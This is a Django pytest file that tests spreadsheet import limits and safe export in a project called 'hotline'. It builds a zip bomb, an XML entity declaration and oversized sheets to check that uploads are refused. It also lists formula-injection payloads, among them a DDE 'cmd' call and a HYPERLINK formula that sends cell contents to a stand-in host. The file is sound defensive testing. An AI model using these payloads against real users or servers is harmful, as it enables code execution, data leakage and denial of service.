"""Finding 7 of issue 10: uploaded workbooks are read within limits, exports never carry formulas.

Each test builds its hostile workbook itself: a zip bomb (a small file whose sheet unpacks to
200 MiB), a sheet with one value in column XFD, a sheet that claims A1:XFD1048576, an entity
declaration, too many rows; and an export whose texts look like formulas."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from typing import TYPE_CHECKING, Any

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet

from hotline.core import spreadsheets
from hotline.core.spreadsheets import ImportRefused, Limits, new_workbook, open_workbook, write_row

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from pytest_django.fixtures import Settings

SHEET = "xl/worksheets/sheet1.xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MIB = 1024 * 1024


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


def _base_xlsx() -> bytes:
    book = Workbook()
    book.active.append(["code", "name"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_with_sheet(sheet_xml: bytes | None = None, *, chunks: Iterable[bytes] | None = None) -> io.BytesIO:
    """A real openpyxl workbook whose first sheet is replaced by ``sheet_xml`` (or by the
    byte chunks ``chunks`` yields, streamed so a 200 MiB sheet never sits in memory)."""
    source = zipfile.ZipFile(io.BytesIO(_base_xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != SHEET:
                target.writestr(item, source.read(item))
                continue
            if chunks is None:
                assert sheet_xml is not None
                target.writestr(SHEET, sheet_xml)
                continue
            with target.open(SHEET, "w", force_zip64=True) as stream:
                for chunk in chunks:
                    stream.write(chunk)
    out.seek(0)
    return out


def sheet(rows_xml: str, dimension: str = "A1:B2") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}>'
            f'<dimension ref="{dimension}"/><sheetData>{rows_xml}</sheetData></worksheet>').encode()


def test_zip_bomb_is_refused_before_unpacking_with_bounded_memory() -> None:
    def bomb() -> Iterator[bytes]:
        yield f'<?xml version="1.0"?><worksheet {NS}><sheetData>'.encode()
        row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
        block = row * (MIB // len(row))
        for _ in range(200):
            yield block
        yield b"</sheetData></worksheet>"

    upload = xlsx_with_sheet(chunks=bomb())
    assert len(upload.getvalue()) < 2 * MIB  # a small file ...
    member = zipfile.ZipFile(upload).getinfo(SHEET)
    assert member.file_size > 190 * MIB  # ... that unpacks to 200 MiB
    tracemalloc.start()
    try:
        with pytest.raises(ImportRefused) as refused:
            open_workbook(upload)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "unpacks to more than 50 MB" in refused.value.message
    assert peak < 5 * MIB


def test_a_member_compressed_like_a_bomb_is_refused_even_under_the_total(settings: Settings) -> None:
    settings.HOTLINE_IMPORT_MAX_UNPACKED_BYTES = 500 * MIB
    rows = b"<row><c><v>1</v></c></row>" * (8 * MIB // 26)
    upload = xlsx_with_sheet(chunks=iter([f"<worksheet {NS}><sheetData>".encode(), rows,
                                          b"</sheetData></worksheet>"]))
    with pytest.raises(ImportRefused, match="compressed more than 150 to 1"):
        open_workbook(upload)


def test_a_value_in_column_xfd_is_refused_before_openpyxl_reads_a_row(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def never(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("openpyxl must not see a refused workbook")

    monkeypatch.setattr(spreadsheets, "load_workbook", never)
    upload = xlsx_with_sheet(sheet('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c>'
                                   '</row>', dimension="A1:XFD1"))
    with pytest.raises(ImportRefused) as refused:
        open_workbook(upload)
    assert "column 16384 (cell XFD1)" in refused.value.message
    assert "at most 64 columns" in refused.value.message


def test_a_row_of_cells_without_coordinates_counts_like_openpyxl_would() -> None:
    cells = "<c><v>1</v></c>" * 70  # openpyxl numbers them A, B, C, ...
    with pytest.raises(ImportRefused, match="column 65"):
        open_workbook(xlsx_with_sheet(sheet(f"<row>{cells}</row>")))


def test_a_huge_claimed_dimension_and_far_empty_cells_never_widen_the_rows(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    widths = []
    real_get_row = ReadOnlyWorksheet._get_row

    def recording_get_row(self: ReadOnlyWorksheet, row: int, min_col: int = 1, max_col: int | None = None,
                          values_only: bool = False) -> Any:
        result = real_get_row(self, row, min_col, max_col, values_only)
        widths.append(len(result))
        return result

    monkeypatch.setattr(ReadOnlyWorksheet, "_get_row", recording_get_row)
    rows = ('<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>name</t></is></c></row>'
            '<row r="2"><c r="A2"><v>7</v></c><c r="XFD2" s="0"/></row>'
            '<row r="1048576" s="0"><c r="XFD1048576" s="0"/></row>')
    book = open_workbook(xlsx_with_sheet(sheet(rows, dimension="A1:XFD1048576")))
    assert (book.extent.rows, book.extent.columns) == (2, 2)
    assert list(book.rows(book.worksheets[0])) == [("code", "name"), (7, None)]
    assert widths and max(widths) == 2


def test_too_many_rows_are_refused_and_the_header_does_not_count() -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 7))
    limits = Limits.default(max_rows=5)
    assert open_workbook(xlsx_with_sheet(sheet(rows)), limits).extent.rows == 6
    rows += '<row r="7"><c r="A7"><v>7</v></c></row>'
    with pytest.raises(ImportRefused) as refused:
        open_workbook(xlsx_with_sheet(sheet(rows)), limits)
    assert "more than 5 rows (a value on row 7)" in refused.value.message


def test_upload_size_entities_and_non_workbooks_are_refused(settings: Settings) -> None:
    settings.HOTLINE_IMPORT_MAX_BYTES = 2 * MIB
    big = io.BytesIO(b"PK" + b"\0" * (2 * MIB))
    with pytest.raises(ImportRefused, match="larger than 2 MB"):
        open_workbook(big)
    laughs = (f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><worksheet {NS}>'
              "<sheetData/></worksheet>").encode()
    with pytest.raises(ImportRefused, match="document type"):
        open_workbook(xlsx_with_sheet(laughs))
    with pytest.raises(ImportRefused, match="not an Excel workbook"):
        open_workbook(io.BytesIO(b"plain text, not a zip"))
    a_docx = io.BytesIO()
    with zipfile.ZipFile(a_docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    with pytest.raises(ImportRefused, match="not an Excel workbook"):
        open_workbook(a_docx)
    with pytest.raises(ImportRefused, match="not an Excel workbook"):
        open_workbook(xlsx_with_sheet(b"<worksheet><sheetData><row>"))  # broken XML


FORMULAS = ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1+1", "＝1+1",
            '=HYPERLINK("http://x.example/?"&A1,"click")']


def test_exported_formula_text_reads_back_as_unchanged_quote_prefixed_text() -> None:
    book, sheet_ = new_workbook("data", ["text", "number"])
    for text in FORMULAS:
        write_row(sheet_, [text, 1.5])
    write_row(sheet_, ["bell\x07 gone", None])
    out = io.BytesIO()
    book.save(out)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(out.getvalue())).read(SHEET)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [row[0] for row in read.iter_rows(min_row=2, max_row=len(FORMULAS) + 1)]
    assert [c.value for c in cells] == FORMULAS
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert read.cell(row=2, column=2).value == 1.5
    assert read.cell(row=len(FORMULAS) + 2, column=1).value == "bell gone"
    assert not read.cell(row=1, column=1).quotePrefix  # plain text is left alone
